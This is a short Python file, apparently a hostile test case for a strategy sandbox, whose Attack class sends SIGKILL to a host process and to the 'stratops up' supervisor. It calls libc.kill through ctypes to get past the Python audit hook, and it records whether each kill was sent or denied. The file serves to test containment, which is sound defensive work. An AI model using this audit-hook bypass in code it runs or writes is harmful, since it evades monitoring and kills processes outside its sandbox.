"""Hostile: kill a host process and `stratops up` itself through libc.kill (past the audit hook)."""

import ctypes

from executor import Strategy


class Attack(Strategy):
    def on_start(self):
        libc = ctypes.CDLL(None, use_errno=True)
        t = self.params["targets"]
        results = {}
        for pid in (t["host_victim_pid"], t["up_pid"]):
            rc = libc.kill(pid, 9)
            results[str(pid)] = "sent" if rc == 0 else f"denied: errno {ctypes.get_errno()}"
        self.state["report"] = {"ran": True, "kills": results}
        self.save_state()
